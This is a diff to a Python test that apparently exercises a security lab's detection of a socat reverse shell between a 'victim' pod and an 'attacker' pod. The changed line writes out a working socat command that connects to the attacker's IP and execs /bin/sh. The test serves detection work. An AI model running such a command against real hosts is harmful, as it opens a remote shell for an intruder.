@@ -141,7 +141,7 @@ def test_ncat_reverse_shell(lab: Lab) -> None:
 def test_socat_reverse_shell(lab: Lab) -> None:
     victim, attacker = lab.pod("api", namespace="shop"), lab.pod("c2", namespace="evil")
     server = listener(attacker, 4446, b"id -u; exit\n")
-    victim.run(["/usr/bin/socat", f"TCP:{attacker.ip}:4446", "EXEC:/bin/sh"], timeout=30)
+    victim.run(["/usr/bin/socat", f"TCP:{attacker.ip}:4446", "EXEC:/bin/sh,nofork"], timeout=30)
     out, _ = server.communicate(timeout=30)
     assert out.strip() == "0"
     lab.expect("socat_reverse_shell", victim)
